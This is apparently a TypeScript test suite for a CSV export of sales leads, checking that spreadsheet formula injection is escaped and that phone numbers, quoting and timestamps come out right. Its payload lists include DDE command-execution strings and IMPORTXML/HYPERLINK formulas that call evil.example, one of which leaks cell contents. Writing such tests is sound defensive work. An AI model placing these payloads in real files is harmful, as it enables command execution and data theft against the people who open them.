import { csvCell } from '@contract';
import type { Lead } from '@/shared/api-types';
import { aBookingLead, aSubscriptionLead } from '@/testing/builders';
import { readCsv } from '@/testing/readCsv';
import { csvLine as lineOf, headingLine } from '@/admin/ground/lists/exportList';
import { LEAD_CSV } from '@/admin/records/leads/leadFields';

const CSV_HEADER = headingLine(LEAD_CSV);
const csvLine = (lead: Lead) => lineOf(LEAD_CSV, lead);

const FORMULAS = [
  '=1+1',
  '+63',
  '-2',
  '@SUM(A1)',
  '\tx',
  '\rx',
  '\nx',
  '\0x',
  '\t=1',
  '\r\n=1',
  ' =1',
  '\u00a0=1',
  '\0=1',
  '=HYPERLINK("http://evil.example","x")',
  "=cmd|'/C calc'!A0",
  "+cmd|'/C calc'!A0",
  "-1+cmd|'/C calc'!A0",
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '=WEBSERVICE("x")',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  'a","=1',
  'a\r\n=1',
  '";=1',
  '=1,2',
  '=1;2',
  "='x'",
  '"=1"',
  '\ufeff=1',
];

const SIGN = '=+-@＝＋－＠';

/** Texts with a formula after each possible separator: unquoted, indented and quoted. */
const HIDDEN = [
  "Cruz;=cmd|' /C calc'!A0;x",
  "Cruz\t=cmd|' /C calc'!A0\tx",
  'a;"b',
  'a";"',
  'a;";=1',
  '"a";"=1"',
  'a;""";=1',
  'a\n"\n=1',
  'a\r\n\r\n=1\r\n',
  'a\r=1\r\r=2',
  'a;\t=1',
  'a\t;\n=1',
  'a; \t"=1',
  'a;\tx',
  'a,;=1',
  'a;,=1',
  ';;==\t\t--\n\n++',
  ...[';', '\t', '\n', '\r', '\r\n'].flatMap((separator) =>
    ['', ' ', '"', '""', ' " ', '\u00a0', '\0', ';', '\t', '\n', '",'].flatMap((between) =>
      [...SIGN].map((sign) => `a${separator}${between}${sign}1+1`),
    ),
  ),
];

const isFormula = (cell: string) => /^[\s\0"]*[=+\-@＝＋－＠]|^[\t\0]/.test(cell);

/** Every text of up to four of these characters. */
const COMBINATIONS = [1, 2, 3].reduce(
  (texts) => ['', ...texts.flatMap((text) => [...'a=;\t\n", '].map((sign) => text + sign))],
  [...'a=;\t\n", '],
);

/** A file with the text in every text column; neighbouring cells differ. */
function fileWith(text: string): string {
  const names = { firstName: text, lastName: `${text}a`, email: `a${text}` };
  const booking = aBookingLead({
    ...names,
    phone: text,
    notes: text,
    productPurchased: text,
    premiumRate: text,
    createdAt: text,
    dateOfBirth: text,
    preferredDate: text,
  });
  return CSV_HEADER + csvLine(booking) + csvLine(aSubscriptionLead(names)) + csvLine(booking);
}

const TEXTS = [...FORMULAS, ...HIDDEN, ...COMBINATIONS];

test.each(
  [',', ';', '\t'].flatMap((separator) => [false, true].map((inside) => [separator, inside] as const)),
)('no cell starts with a formula, with separator %j and quotes inside cells: %j', (separator, inside) => {
  const begins = (text: string) => readCsv(fileWith(text), separator, inside).flat().some(isFormula);
  expect(TEXTS.filter(begins).slice(0, 10)).toEqual([]);
});

test('adds only apostrophes to a text', () => {
  const changed = (text: string) => {
    const [[cell = '', next] = []] = readCsv(`${csvCell(text)},x`, ',');
    return next !== 'x' || cell.replaceAll("'", '') !== text.replaceAll("'", '');
  };
  expect(TEXTS.filter(changed).slice(0, 10)).toEqual([]);
});

test.each(['Calm; then\n\nmore, "quoted"', "O'Neil-Cruz", 'a - b = c', 'x@example.org', '1\t2'])(
  'returns %j unchanged',
  (text) => expect(readCsv(csvCell(text), ',')).toEqual([[text]]),
);

test('escapes a text with a million separators in linear time', () => {
  const text = `a${'\t'.repeat(1_000_000)}`;
  expect(csvCell(text).length).toBe(2_000_002);
});

test.each(['+63 917 555 0101', '+639175550101', '(02) 8123-4567', '-1.234.567', '0917 555 0101'])(
  'writes the phone number %s unchanged',
  (phone) => {
    const [cells] = readCsv(csvLine(aBookingLead({ phone })), ',');
    expect(cells?.[3]).toBe(phone);
  },
);

test.each(['+63 91', '=1+1+1+1', '+A1+B1+C1', '-------', '+1234567;=1', '+123456\n=1', `+${'1'.repeat(20)}`])(
  'escapes %j, which is not a phone number',
  (phone) => {
    const [cells] = readCsv(csvLine(aBookingLead({ phone })), ',');
    expect(cells?.[3]).toMatch(/^'/);
  },
);

test('formats the creation time in the time zone of the header', () => {
  const [headings, cells] = readCsv(
    CSV_HEADER + csvLine(aBookingLead({ createdAt: '2026-01-05T17:30:00Z' })),
    ',',
  );
  expect(headings?.at(-2)).toBe('Created (Asia/Manila)');
  expect(cells?.at(-2)).toBe('2026-01-06 01:30');
});

test('quotes separators and line breaks', () => {
  expect(csvCell('a,b')).toBe('"a,b"');
  expect(csvCell('says "yes"\nto it')).toBe('"says ""yes""\nto it"');
  expect(csvCell(null)).toBe('');
});

test('both lead types have the same columns', () => {
  const columns = (line: string) => line.split(',').length;
  expect(columns(csvLine(aBookingLead({ notes: 'Calm' })))).toBe(columns(CSV_HEADER));
  expect(columns(csvLine(aSubscriptionLead()))).toBe(columns(CSV_HEADER));
});

test('writes labels, not codes', () => {
  expect(csvLine(aBookingLead())).toContain('10:00 AM,Retirement Planning');
});
